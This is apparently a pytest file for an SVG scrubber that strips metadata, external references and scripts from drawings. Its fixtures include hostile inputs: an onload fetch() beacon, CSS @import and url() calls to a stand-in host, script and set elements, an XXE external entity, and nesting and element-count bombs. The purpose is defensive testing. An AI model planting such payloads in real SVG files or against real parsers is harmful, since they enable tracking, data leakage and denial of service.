"""Drawings made anew: shapes stay; whoever drew them, where, and every way out does not."""

from __future__ import annotations

import pytest

from packager.errors import ScrubError
from packager.media.svg import MAX_ELEMENTS, rebuild_svg

MARK = "CANARY"
DIRTY = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<?xml-stylesheet href="http://h.out.example/{MARK}.css"?>
<!-- {MARK} -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ink="http://{MARK}/ink"
 xmlns:rdf="http://{MARK}/rdf" ink:docname="{MARK}.svg" ink:export-filename="/home/{MARK}/a.png" id="{MARK}" viewBox="0 0 9 9"
 data-by="{MARK}" onload="fetch('//h.out.example/{MARK}')" xml:base="http://h.out.example/{MARK}" style="font-family:x;-ink-font:{MARK}.ttf.otf:x">
 <metadata><rdf:RDF><rdf:by>{MARK}</rdf:by></rdf:RDF></metadata><title>{MARK}</title><desc>{MARK}</desc><ink:view x="{MARK}"/>
 <style type="text/css">/* {MARK} */ @import "//h.out.example/{MARK}"; .{MARK}{{fill:#f00}} #{MARK}-b{{stroke:blue}}
  .x{{fill:url(//h.out.example/{MARK})}} svg > [title={MARK}]{{fill:red}}</style>
 <defs><linearGradient id="{MARK}-g" xlink:href="http://h.out.example/{MARK}"><stop offset="0" style="stop-color:#fff"/></linearGradient></defs>
 <g id="layer-{MARK}" class="{MARK}" ink:label="{MARK}"><path d="M0 0 L9 9z" fill="url(#{MARK}-g)" stroke="url(//h.out.example/{MARK}#a)"/></g>
 <a xlink:href="http://h.out.example/{MARK}"><rect width="3" height="3" style="fill:url('#{MARK}-g');stroke:red"/></a>
 <text x="1" y="2">글 &amp; <tspan font-family="{MARK}.example.font">자</tspan>&#xAC00;</text>{MARK}
 <image href="http://h.out.example/{MARK}.png"/><use href="#{MARK}"/><script>{MARK}</script><set attributeName="href" to="//{MARK}"/>
 <foreignObject><p xmlns="http://www.w3.org/1999/xhtml">{MARK}</p></foreignObject><font><glyph/></font>
</svg>
<!-- {MARK} -->"""
MADE = (
    '<svg xmlns="http://www.w3.org/2000/svg" style="font-family:x" viewBox="0 0 9 9"><style>.c1{fill:#f00}#none{stroke:blue}'
    '</style><defs><linearGradient id="i1"><stop offset="0" style="stop-color:#fff"></stop></linearGradient></defs>'
    '<g class="c1"><path d="M0 0 L9 9z" fill="url(#i1)"></path></g><rect height="3" style="fill:url(#i1);stroke:red" width="3">'
    '</rect><text x="1" y="2">글 &amp; <tspan>자</tspan>가</text></svg>\n'
)  # fmt: skip


def test_shapes_stay_and_marks_go() -> None:
    made = rebuild_svg(DIRTY.encode()).decode()
    assert made == MADE
    assert MARK not in made
    assert rebuild_svg(made.encode()).decode() == made


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no",
        "<html/>",
        "<svg/>",
        '<svg xmlns="http://www.w3.org/2000/svg">',
        '<svg xmlns="http://www.w3.org/2000/svg">&e;</svg>',
        '<!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<!DOCTYPE svg [<!ENTITY e SYSTEM "http://h.out.example/e">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>',
        '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 5_000 + "</g>" * 5_000 + "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg">' + "<g/>" * (MAX_ELEMENTS + 1) + "</svg>",
    ],
    ids=range(10),
)
def test_refused(text: str) -> None:
    with pytest.raises(ScrubError, match="drawing"):
        rebuild_svg(text.encode())
